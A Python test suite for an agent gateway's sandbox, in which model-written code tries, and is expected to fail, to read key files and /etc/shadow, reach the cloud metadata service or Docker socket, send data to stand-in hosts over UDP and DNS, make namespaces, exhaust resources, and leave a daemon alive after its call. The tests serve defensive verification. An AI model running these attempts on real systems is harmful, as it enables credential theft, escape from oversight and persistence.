"""Attacks by the code of a model: it runs on the gateway's machine, and whoever wrote the prompt wrote it.

Every row says what an attacker wants. The code goes the way of all code: a model answers `/agent/run` with a block of
Python, and what the block prints comes back. What it could not do, it says; what it prints after
`GOT` it must not have.
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import re
import signal
import socket
import subprocess
import sys
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest

from mini_agent.core.errors import SandboxUnavailable
from mini_agent.tools.execution import PythonJob, ShellJob
from mini_agent.tools.local.invoker import LocalInvoker
from mini_agent.tools.local.process import ProcessResult
from mini_agent.tools.local.sandbox.advice import advice
from mini_agent.tools.local.sandbox.client import Limits, Sandbox
from mini_agent.tools.local.sandbox.syscalls import REFUSED, machine_of
from mini_agent.tools.slots import ToolSlots
from support.gateway import Gateway, Stage, inherited
from support.processes import carrying, ended
from support.tool_calls import calling
from support.upstream import answer, completion

SECRET = "sk-planted-in-the-environment"
TRACE = "what-another-user-asked"
MARK = "0.31415926535"
IN_TMP = "[name for name in os.listdir('/tmp') if not sys.prefix.startswith(f'/tmp/{name}/')]"
"""Code for what lies in the sandbox's temporary folder, beside the interpreter of a checkout that lies there."""


class World:
    """A gateway with secrets, and a model that answers with code."""

    def __init__(self, stage: Stage, folder: Path) -> None:
        self.stage = stage
        self.traces = folder / "traces.jsonl"
        self.traces.write_text(TRACE)
        self.environ = {
            "PATH": os.environ["PATH"],
            "HOME": str(folder),
            "OPENAI_API_KEY": SECRET,
            "MINI_AGENT_STORE_PATH": str(self.traces),
        }
        self.gateway = stage.gateway(environ=self.environ)
        self.config = self.gateway.settings.config_file or ""
        self.names: dict[str, Any] = {
            "CONFIG": self.config,
            "TRACES": str(self.traces),
            "FOLDER": str(folder),
            "GATEWAY": str(os.getpid()),
            "PORT": str(self.gateway.port),
            "PACKAGES": str(Path(pytest.__file__).parent),
            "MARK": MARK,
        }
        machine = machine_of(os.uname().machine)
        calls = {"KEYCTL": "keyctl", "BPF": "bpf", "IO_URING": "io_uring_setup"}
        self.names |= {name: machine.numbers[call] for name, call in calls.items()} | {"CLONE": machine.clone}

    def says(self, code: str, **fields: Any) -> str:
        """Returns: what the model is told of a block of code that it wrote."""
        self.stage.upstream.script(answer(f"```python\n{code}\n```"))
        return self.told(**fields)

    def told(self, **fields: Any) -> str:
        """Returns: what the model is told of the block that it writes next."""
        body = {"model": "m1", "messages": [{"role": "user", "content": "go"}], "auto_run_code_on_code_block": True}
        reply = self.gateway.post("/agent/run", {**body, "max_iterations": 1, **fields})
        assert reply.status == 200, reply.body
        return str([message for message in reply.json()["messages"] if message["role"] == "tool"][-1]["content"])


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    """One gateway for all attempts, its sandbox made."""
    folder = tmp_path_factory.mktemp("sandbox")
    with Stage(folder) as stage:
        world = World(stage, folder)
        assert world.says("print(6 * 7)") == "42"
        yield world


_START = """
import ctypes, os, resource, signal, socket, time
libc = ctypes.CDLL(None, use_errno=True)
def call(name, *arguments):
    if getattr(libc, name)(*arguments) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
"""


def attempt(code: str, names: dict[str, Any]) -> str:
    """Returns: a program that tries, and says how it went."""
    lines = "\n".join(f"    {line}" for line in code.splitlines())
    constants = "\n".join(f"{name} = {value!r}" for name, value in names.items())
    failed = "except BaseException as error:\n    print(type(error).__name__, error)"
    return f"{_START}{constants}\ntry:\n{lines}\n{failed}"


FILES = {
    "the configuration with everybody's keys": ("print('GOT', open(CONFIG).read())", "FileNotFoundError"),
    "what other users asked": ("print('GOT', open(TRACES).read())", "FileNotFoundError"),
    "the list of the gateway's folder": ("print('GOT', os.listdir(FOLDER))", "FileNotFoundError"),
    "the machine's passwords": ("print('GOT', open('/etc/shadow').read())", "FileNotFoundError"),
    "the names of the machine's users": ("print([line for line in open('/etc/passwd')])", r"^\['sandbox:x:1000:"),
    "anybody's home": ("print(sorted(os.listdir('/home')))", "FileNotFoundError"),
    "what services keep": ("print('GOT', os.listdir('/var'))", "FileNotFoundError"),
    "the machine's devices": ("print(sorted(os.listdir('/dev')))", r"'full', 'null', 'random', 'shm', 'stderr'"),
    "the kernel's memory": ("print('GOT', open('/proc/kcore', 'rb').read(64))", "PermissionError|FileNotFound"),
    "the root that was there before": ("print('GOT', os.listdir('/proc/1/root'))", "PermissionError"),
    "the folder of the process in front of it": ("print('GOT', os.listdir('/proc/1/cwd'))", "PermissionError"),
    "to stay, in the interpreter that everybody uses": (
        "open(PACKAGES + '/sitecustomize.py', 'w'); print('GOT')",
        "Read-only|Permission",
    ),
    "to stay, in a folder of the system": ("open('/usr/bin/x', 'w'); print('GOT')", "Read-only|Permission"),
    "to stay, in the root": ("os.mkdir('/x'); print('GOT')", "Read-only|Permission"),
    "to stay, in the home": (f"import sys; print(os.path.expanduser('~'), {IN_TMP})", r"^/tmp/work \['work'\]"),
    "another program than its own text": ("open('/run/tool.py', 'a'); print('GOT')", "Read-only|Permission"),
    "a device of its own": ("os.mknod('/tmp/sda', 0o60600, os.makedev(8, 0)); print('GOT')", "PermissionError"),
}
RIGHTS = {
    "the gateway's environment, by its child": (
        "print('GOT', open(f'/proc/{os.getppid()}/environ').read())",
        "PermissionError",
    ),
    "the gateway's environment, by its number": (
        "print('GOT', open(f'/proc/{GATEWAY}/environ').read())",
        "FileNotFoundError",
    ),
    "any environment but its own": ("print(sorted(os.environ))", r"^\['HOME', 'LANG', 'LC_ALL', 'PATH', 'TMPDIR'\]"),
    "what the gateway has open": ("print(os.listdir('/proc/self/fd'))", r"^\['0', '1', '2', '3'\]"),
    "to see who else is there": ("print([p for p in os.listdir('/proc') if p.isdigit()])", r"^\['1', '2'\]"),
    "to stop the gateway": ("os.kill(int(GATEWAY), 9); print('GOT')", "ProcessLookupError"),
    "to stop the process that watches it": ("os.kill(1, 9); time.sleep(0.01); print('still 1:', os.getppid())", "1: 1"),
    "to trace the process that watches it": ("call('ptrace', 16, 1, 0, 0); print('GOT')", "PermissionError|not perm"),
    "to mount": ("call('mount', b'x', b'/tmp', b'tmpfs', 0, None); print('GOT')", "not permitted"),
    "to write where it may only read": ("call('mount', b'', b'/usr', None, 4128, None); print('GOT')", "not permitted"),
    "to take a cover away": ("call('umount2', b'/proc', 2); print('GOT')", "not permitted"),
    "another root": ("os.chroot('/tmp'); print('GOT')", "PermissionError"),
    "to be root": ("os.setuid(0); print('GOT')", "PermissionError|Invalid argument"),
    "to be root, by a program that makes one so": (
        "print(open('/proc/self/status').read())",
        r"(?s)CapInh:\t0+\nCapPrm:\t0+\nCapEff:\t0+\nCapBnd:\t0+\nCapAmb:\t0+\nNoNewPrivs:\t1",
    ),
    "rights in a user namespace of its own": ("call('unshare', 0x10000000); print('GOT')", "No space|not permitted"),
    "a mount namespace": ("call('unshare', 0x20000); print('GOT')", "not permitted"),
    "the gateway's network, by its namespace": ("print('GOT', open('/proc/1/ns/net'))", "PermissionError"),
    "more than its limits": ("resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096)); print('GOT')", "ValueError"),
    "the processor for itself": ("os.nice(-10); print('GOT')", "PermissionError"),
    "another name of the machine": ("socket.sethostname('x'); print('GOT')", "PermissionError"),
    "another time": ("time.clock_settime(time.CLOCK_REALTIME, 0); print('GOT')", "PermissionError"),
    "the end of the machine": ("call('reboot', 0x1234567); print('GOT')", "not permitted"),
    "a program in the kernel's hands": (
        "open('/proc/sys/kernel/core_pattern', 'w'); print('GOT')",
        "Read-only|Permission",
    ),
    "a terminal to type into": ("open('/dev/tty'); print('GOT')", "No such"),
}
NETWORK = {
    "to drive the gateway, which trusts this machine": (
        "socket.create_connection(('127.0.0.1', int(PORT)), 2); print('GOT')",
        "ConnectionRefused",
    ),
    "a service of the operator's network": (
        "socket.create_connection(('10.0.0.1', 80), 2); print('GOT')",
        "unreachable",
    ),
    "the metadata service of a cloud": (
        "socket.create_connection(('169.254.169.254', 80), 2); print('GOT')",
        "unreachable",
    ),
    "to carry data out": (
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('192.0.2.1', 53)); print('GOT')",
        "unreachable",
    ),
    "to carry data out, over IPv6": (
        "socket.create_connection(('2001:db8::1', 80), 2); print('GOT')",
        "OSError|unreach",
    ),
    "to carry data out in names": ("print('GOT', socket.getaddrinfo('secret.evil.example', 80))", "gaierror"),
    "to read what passes": ("socket.socket(socket.AF_PACKET, socket.SOCK_RAW); print('GOT')", "PermissionError"),
    "to forge what passes": ("socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); print('GOT')", "PermissionError"),
    "to change the network": ("socket.if_nameindex(); call('setns', 0, 0x40000000); print('GOT')", "OSError|Error"),
    "Docker, which is root": (
        "socket.socket(socket.AF_UNIX).connect('/var/run/docker.sock'); print('GOT')",
        "FileNotFoundError",
    ),
}
KERNEL = {
    "keys that the kernel keeps for the gateway's user": (
        "call('syscall', KEYCTL, 11, -3, None, 0); print('GOT')",
        "not perm",
    ),
    "a program inside of the kernel": ("call('syscall', BPF, 0, None, 0); print('GOT')", "not permitted"),
    "work that the kernel does behind every filter": (
        "call('syscall', IO_URING, 8, None); print('GOT')",
        "not permitted",
    ),
    "memory behind a descriptor, which no process has": ("os.memfd_create('x'); print('GOT')", "PermissionError"),
    "the kernel's log": ("call('klogctl', 3, ctypes.create_string_buffer(99), 99); print('GOT')", "not permitted"),
    "a namespace, in a call whose flags no filter sees": (
        "call('syscall', 435, None, 88); print('GOT')",
        "not implemented",
    ),
    "a namespace, by a fork": ("call('syscall', CLONE, 0x10000011, 0, 0, 0, 0); print('GOT')", "not permitted"),
}
RESOURCES = {
    "memory": ("bytearray(8 << 30); print('GOT')", "MemoryError"),
    "memory that is everybody's": (
        "call('shmget', 0, ctypes.c_size_t(1 << 30), 0o1600); print('GOT')",
        "No space|Error",
    ),
    "one file as large as the disk": (
        "f = open('/tmp/f', 'wb')\nfor _ in range(100): f.write(b'x' * (1 << 20)); f.flush()\nprint('GOT')",
        "File too large",
    ),
    "the disk": (
        "for n in range(250):\n  f = open(f'/tmp/{n}', 'wb'); f.write(b'x' * (1 << 20)); f.close()\nprint('GOT')",
        "No space",
    ),
    "every name on the disk": ("for n in range(20000): os.mkdir(f'/tmp/{n}')\nprint('GOT')", "No space"),
    "every open file": ("files = [open('/dev/null') for _ in range(300)]; print('GOT')", "Too many open"),
    "every process": (
        "n = 0\nwhile n < 400:\n  n += 1\n  if os.fork() == 0: signal.pause()\nprint('GOT')",
        "BlockingIOError|more (memory|processes) than it may have",
    ),
    "locked memory": (
        "call('mlock', ctypes.create_string_buffer(9999), ctypes.c_size_t(9999)); print('GOT')",
        "not allocate|not perm",
    ),
}
ALL = {**FILES, **RIGHTS, **NETWORK, **KERNEL, **RESOURCES}


@pytest.mark.parametrize(("code", "told"), ALL.values(), ids=ALL)
def test_code_of_a_model_cannot_have(world: World, code: str, told: str) -> None:
    """Wanted: the row's name. It does not get it, and can say so: the program ran to its end."""
    said = world.says(attempt(code, world.names))
    assert re.search(told, said), said
    assert "GOT" not in said
    assert SECRET not in said
    assert TRACE not in said


DAEMON = """
import os, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-IS", "-c", "import time; time.sleep(600)", "{mark}"])
time.sleep(0.1)
print("it is out", flush=True)
{then}
"""


@pytest.mark.parametrize("then", ["", "time.sleep(600)", "os._exit(1)", "os.kill(os.getpid(), 9)"])
def test_a_daemon_does_not_outlive_its_call(world: World, then: str) -> None:
    """Wanted: to stay after the call, by two forks and a session of its own, with the pipes of the call held open."""
    mark = f"{MARK}{abs(hash(then)) % 10_000}"
    said = world.says(DAEMON.format(mark=mark, then=then), tool_timeout_sec=0.5)
    assert "it is out" in said or "timeout after 0.5s" in said or said.startswith("error: rc=")
    assert all(map(ended, carrying(mark)))


@pytest.mark.parametrize("name", ["x86_64", "aarch64", "riscv64"])
def test_every_machine_refuses_the_same_calls(name: str) -> None:
    """Wanted: a kind of machine on which one was forgotten. Their numbers differ, and no two calls share one."""
    numbers = machine_of(name).numbers
    assert set(numbers) >= REFUSED
    assert len(set(numbers.values())) == len(numbers)


def test_a_machine_whose_calls_are_not_known_has_no_sandbox() -> None:
    """Wanted: a sandbox with the numbers of another machine, whose filter refuses anything but what it should."""
    with pytest.raises(OSError, match="on vax are not known here"):
        machine_of("vax")


def test_a_call_that_is_cancelled_ends() -> None:
    """Wanted: to go on when the client has left: the call's end is the end of all its processes."""
    mark = f"{MARK}1213"

    async def main() -> None:
        sandbox = Sandbox(environ={})
        await sandbox.require()
        job = PythonJob(DAEMON.format(mark=mark, then="time.sleep(600)"))
        running = asyncio.create_task(sandbox.run(job, timeout_s=600, max_bytes=4096))
        while not carrying(mark):
            await asyncio.sleep(0.01)
        running.cancel()
        with pytest.raises(asyncio.CancelledError):
            await running
        assert all(map(ended, carrying(mark)))
        await sandbox.aclose()

    asyncio.run(main())


def test_calls_see_nothing_of_each_other(world: World) -> None:
    """Wanted: what another user's code wrote, before or at the same time, and its processes."""
    assert world.says("open('/tmp/mine', 'w').write('x'); print('kept')") == "kept"
    look = "import os, sys, time; open('/tmp/' + str(os.getpid()), 'w'); time.sleep(0.1); "
    look += f"print(sorted({IN_TMP}), len([p for p in os.listdir('/proc') if p.isdigit()]))"
    with ThreadPoolExecutor(2) as pool:
        said = list(pool.map(lambda _: world.says(look), range(2)))
    assert said == ["['2', 'work'] 2"] * 2


def test_abstract_sockets_are_out_of_reach(world: World) -> None:
    """Wanted: a desktop's or a service's socket that has no file and asks nobody who he is."""
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(f"\0mini-agent-{os.getpid()}")
        server.listen()
        name = f"\\0mini-agent-{os.getpid()}"
        said = world.says(attempt(f"socket.socket(socket.AF_UNIX).connect('{name}'); print('GOT')", {}))
    assert said.startswith("ConnectionRefusedError")


def test_endless_output_is_dropped_and_endless_work_ends(world: World) -> None:
    """Wanted: the gateway's memory, by output; its processor, by a loop."""
    said = world.says("import sys\nwhile True: sys.stdout.write('x' * 65536)", tool_timeout_sec=0.3)
    assert said.startswith("error: timeout after 0.3s")
    assert len(said) < 10_000
    assert world.says("while True: pass", tool_timeout_sec=0.2).startswith("error: timeout after 0.2s")


def test_a_signal_to_everybody_reaches_its_own_only(world: World) -> None:
    """Wanted: the gateway's end, or that of the calls of others, by a signal to all processes there are."""
    stays = answer("```python\nimport time; time.sleep(0.3); print('still there')\n```")
    world.stage.upstream.forget()
    world.stage.upstream.script(stays, answer("```python\nimport os; os.kill(-1, 9)\n```"))
    with ThreadPoolExecutor(1) as pool:
        other = pool.submit(world.told)
        world.stage.upstream.wait_requests()
        assert "ProcessLookupError" in world.told()
        assert other.result() == "still there"


BROKEN = {
    "use_tools left out": {},
    "use_tools false": {"use_tools": False},
    "use_tools false, though the backend has tools without asking": {"use_tools": False, "tool_backend": "mcp"},
    "code blocks for a backend without them": {"use_tools": False, "auto_run_code_on_code_block": False},
}


@pytest.mark.parametrize("fields", BROKEN.values(), ids=BROKEN)
def test_what_was_not_offered_is_not_run(stage: Stage, fields: dict[str, Any]) -> None:
    """Wanted: code run by a request that asked for none, because the model calls a tool, or writes a block."""
    config = {"model_list": [stage.entry()], "mcp_servers": {"s": {"transport": "stdio", "command": "/nowhere"}}}
    gateway = stage.gateway(config, {"MINI_AGENT_LOCAL_TOOLS": "unsandboxed", "PATH": os.environ["PATH"]})
    function = {"name": "exec_python", "arguments": '{"code": "print(\'ran\')"}'}
    wish = completion(
        "```python\nprint('ran')\n```", tool_calls=[{"id": "a", "type": "function", "function": function}]
    )
    stage.upstream.script(answer(wish), answer("```python\nprint('ran')\n```"))
    body = {"model": "m1", "messages": [{"role": "user", "content": "go"}], **fields}
    messages = gateway.post("/agent/run", body).json()["messages"]
    assert [message["content"] for message in messages if message["role"] == "tool"] == [
        "error: unsupported tool 'exec_python'"
    ]
    assert "tools" not in stage.upstream.requests[0].body


def run_in(sandbox: Sandbox, *jobs: PythonJob | ShellJob, timeout_s: float = 5) -> list[ProcessResult]:
    """Returns: the results of jobs, one after the other, in a sandbox that is closed behind them."""

    async def main() -> list[ProcessResult]:
        try:
            return [await sandbox.run(job, timeout_s=timeout_s, max_bytes=4096) for job in jobs]
        finally:
            await sandbox.aclose()

    return asyncio.run(main())


def test_memory_is_bounded_for_all_processes_together() -> None:
    """Wanted: memory, by processes each of which stays within its limit: the call ends, and says why."""
    code = "import os, time\nfor _ in range(4):\n  if os.fork() == 0: break\nkept = b'x' * (60 << 20)\ntime.sleep(60)"
    sandbox = Sandbox(environ=os.environ, limits=Limits(memory_bytes=150 << 20))
    result = run_in(sandbox, PythonJob(code))[0]
    assert (result.rc, result.timed_out) == (-signal.SIGKILL, False)
    assert "more memory than it may have" in result.stderr


def test_processes_are_counted_where_the_kernel_does_not() -> None:
    """Wanted: more processes, where ids of the machine's root have no limit: the kernel says no, or it all ends."""
    code = "import os, time\nfor _ in range(9):\n  if os.fork() == 0: time.sleep(60)\ntime.sleep(60)"
    (result,) = run_in(Sandbox(environ={}, limits=Limits(processes=5)), PythonJob(code))
    assert not result.timed_out
    assert re.search("BlockingIOError|the program had more processes than it may have", result.stderr)


def test_what_keeps_others_out_of_the_gateways_files_does_not_keep_code_out_of_its_own() -> None:
    """A gateway whose new files are for itself alone has a sandbox in which programs find theirs."""
    before = os.umask(0o077)
    try:
        (result,) = run_in(Sandbox(environ={}), PythonJob("import json, ssl, decimal; print('found')"))
    finally:
        os.umask(before)
    assert result.stdout == "found\n"


def test_programs_find_what_programs_need() -> None:
    """Pools of processes, threads, servers on loopback, temporary files and a user with a name: none is an attack."""
    code = """
import getpass, multiprocessing, os, pathlib, socket, tempfile, threading
with multiprocessing.Pool(2) as pool:
    print(pool.map(abs, [-1, -2]))
with socket.create_server(("127.0.0.1", 0)) as server:
    threading.Thread(target=lambda: server.accept()[0].sendall(b"hello")).start()
    print(socket.create_connection(server.getsockname()).recv(9))
with tempfile.TemporaryFile() as file:
    print(file.write(b"123"))
print(getpass.getuser(), pathlib.Path.home(), os.getcwd(), os.uname().nodename)
"""
    (result,) = run_in(Sandbox(environ={}), PythonJob(code))
    assert (result.stderr, result.stdout.splitlines()) == (
        "",
        ["[1, 2]", "b'hello'", "3", "sandbox /tmp/work /tmp/work sandbox"],
    )


def test_a_command_that_is_no_text_is_a_failed_call() -> None:
    """Half a character in an argument is told as that, and no reason to doubt the sandbox."""
    with pytest.raises(OSError, match="no text"):
        run_in(Sandbox(environ={}), ShellJob(("echo", "\ud800")))


def test_what_the_operator_shows_is_seen_and_what_he_hides_is_not(tmp_path: Path) -> None:
    """A folder that the operator adds is there, read-only; the configuration inside of it is empty."""
    tmp_path.chmod(0o755)  # Outside, code of a gateway of root is nobody.
    (tmp_path / "data").write_text("data")
    (tmp_path / "config.yaml").write_text(SECRET)
    (tmp_path / "link").symlink_to(tmp_path / "data")
    sandbox = Sandbox(environ={}, readable=[str(tmp_path)], hidden=[str(tmp_path / "config.yaml")])
    code = (
        f"import os; os.chdir({str(tmp_path)!r}); print(open('link').read(), repr(open('config.yaml').read()))\n"
        "open('data', 'a')"
    )
    result = run_in(sandbox, PythonJob(code))[0]
    assert result.stdout == "data ''\n"
    assert re.search("Read-only|Permission", result.stderr)


_KILLED = """
import asyncio, sys
from mini_agent.tools.execution import PythonJob
from mini_agent.tools.local.sandbox.client import Sandbox
async def main():
    sandbox = Sandbox(environ={})
    await sandbox.require()
    print("ready", flush=True)
    await sandbox.run(PythonJob(sys.argv[1]), timeout_s=600, max_bytes=4096)
asyncio.run(main())
"""


def test_nothing_stays_when_the_gateway_is_killed() -> None:
    """Wanted: to stay behind a gateway that was killed and could clean nothing up: keeper, code and daemon are gone."""
    mark = f"{MARK}777"
    code = DAEMON.format(mark=mark, then="time.sleep(600)")
    command = [sys.executable, "-c", _KILLED, code]
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True, env=inherited()) as gateway:
        try:
            assert gateway.stdout is not None
            assert gateway.stdout.readline() == "ready\n"
            keepers = keepers_of(gateway.pid)
            while not (daemons := [pid for pid in carrying(f"\0{mark}") if pid != gateway.pid]):
                assert gateway.poll() is None
        finally:
            gateway.kill()
    assert len(keepers) == 1
    assert all(map(ended, [*keepers, *daemons]))


def keepers_of(gateway: int) -> set[int]:
    """Returns: the keepers that a process has started."""
    found = set()
    for pid in carrying("sandbox.keeper"):
        with contextlib.suppress(OSError):  # Those of other tests come and go.
            parent = int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])
            found |= {pid} if parent == gateway else set()
    return found


_WITHOUT = """
import asyncio, ctypes
if ctypes.CDLL(None).unshare(0x10000000):
    raise SystemExit("no namespace for the test")
open("/proc/sys/user/max_user_namespaces", "w").write("0")
from mini_agent.core.errors import SandboxUnavailable
from mini_agent.tools.local.invoker import LocalInvoker
from mini_agent.tools.local.sandbox.client import Sandbox
async def main():
    sandbox = Sandbox(environ={})
    tools = LocalInvoker(runner=sandbox)
    try:
        await tools.list_tools()
    except SandboxUnavailable as refusal:
        print(refusal.status, refusal.code, refusal)
    print(await tools.call({"function": {"name": "exec_python", "arguments": '{"code": "print(1)"}'}}))
    await sandbox.aclose()
asyncio.run(main())
"""


def test_without_a_sandbox_nothing_runs() -> None:
    """Wanted: a machine on which no sandbox can be made runs the code anyway. It is refused: why, and what to do."""
    done = subprocess.run(
        [sys.executable, "-c", _WITHOUT], capture_output=True, text=True, timeout=30, check=True, env=inherited()
    )
    refusal, record = done.stdout.splitlines()
    assert refusal.startswith("400 sandbox_unavailable tool_backend=local is refused: no sandbox can be made here (")
    assert "sudo sysctl -w user.max_user_namespaces=15000" in refusal
    assert "MINI_AGENT_LOCAL_TOOLS=unsandboxed" in refusal
    assert '"ok": false' in record
    assert "no sandbox can be made here" in record


def test_an_interpreter_that_does_not_start_there_is_told(tmp_path: Path) -> None:
    """A sandbox in which nothing could run is none: the refusal says what is wrong."""
    broken = tmp_path / "python"
    broken.write_text("#!/bin/sh\necho broken >&2; exit 3\n")
    broken.chmod(0o755)
    with pytest.raises(SandboxUnavailable, match="does not start in it: broken"):
        run_in(Sandbox(environ={}, python=str(broken)), PythonJob("print(1)"))


@pytest.mark.parametrize(
    ("files", "told"),
    [
        ({"sys/user/max_user_namespaces": "0\n"}, "user.max_user_namespaces=15000"),
        ({"sys/kernel/unprivileged_userns_clone": "0\n"}, "kernel.unprivileged_userns_clone=1"),
        ({"sys/kernel/apparmor_restrict_unprivileged_userns": "1\n"}, "apparmor_restrict_unprivileged_userns=0"),
        ({"self/status": "Name:\tx\nSeccomp:\t2\n"}, "--security-opt seccomp=unconfined"),
        (
            {"self/mountinfo": "28 1 0:24 / /proc rw - proc proc rw\n29 28 0:25 / /proc/kcore ro - tmpfs t ro\n"},
            "covered",
        ),
        ({"self/mountinfo": "28 1 0:24 / /proc/sys/fs/binfmt_misc rw - autofs systemd-1 rw\n"}, "^$"),
        ({"sys/user/max_user_namespaces": "1000\n"}, "^$"),
    ],
)
def test_the_operator_is_told_what_would_help(tmp_path: Path, files: dict[str, str], told: str) -> None:
    """Whatever refuses namespaces has its own remedy."""
    for name, text in files.items():
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(text)
    assert re.search(told, advice(str(tmp_path)))


def test_tool_processes_of_all_requests_are_bounded() -> None:
    """Wanted: the machine, by many calls at once: one more waits for its turn, and gives up in time."""

    async def main() -> tuple[list[Any], list[Any]]:
        sandbox = Sandbox(environ={})
        await sandbox.require()
        patient, slots = ToolSlots(2, wait_s=10), ToolSlots(1, wait_s=0.05)
        code = "import time; print(time.monotonic()); time.sleep(0.15); print(time.monotonic())"
        try:
            both = []
            for bound, count in ((patient, 4), (slots, 2)):
                tools = [LocalInvoker(runner=sandbox, slots=bound) for _ in range(count)]
                both.append(await asyncio.gather(*(calling(each, "exec_python", {"code": code}) for each in tools)))
            return both[0], both[1]
        finally:
            await sandbox.aclose()

    patient, hasty = asyncio.run(main())
    times = [[float(text) for text in record["stdout"].split()] for record in patient]
    assert max(sum(start <= other[0] < end for other in times) for start, end in times) <= 2
    assert sorted(record["ok"] for record in hasty) == [False, True]
    refused = next(record["error"] for record in hasty if not record["ok"])
    assert refused.startswith("all 1 tool processes of the gateway were busy for 0.05s")


def test_running_without_a_sandbox_is_the_operators_word(stage: Stage) -> None:
    """It is logged at start, and only then; any other word is refused."""
    bare = stage.gateway(environ={"MINI_AGENT_LOCAL_TOOLS": "unsandboxed", "PATH": os.environ["PATH"]})
    assert "MINI_AGENT_LOCAL_TOOLS=unsandboxed: code of models runs with the rights of this gateway" in bare.log_text()
    assert "unsandboxed" not in stage.gateway().log_text()


def test_a_keeper_that_was_killed_is_replaced(gateway: Gateway, stage: Stage) -> None:
    """Wanted: no more tools for anybody, by the end of the process that makes sandboxes."""
    stage.upstream.script(answer("```python\nprint(1)\n```"))
    body = {"model": "m1", "messages": [{"role": "user", "content": "go"}], "auto_run_code_on_code_block": True}
    for _ in range(2):
        before = keepers_of(os.getpid())
        assert gateway.post("/agent/run", body).json()["final_answer"] == "1"
        (keeper,) = keepers_of(os.getpid()) - before
        os.kill(keeper, signal.SIGKILL)
        assert ended(keeper)
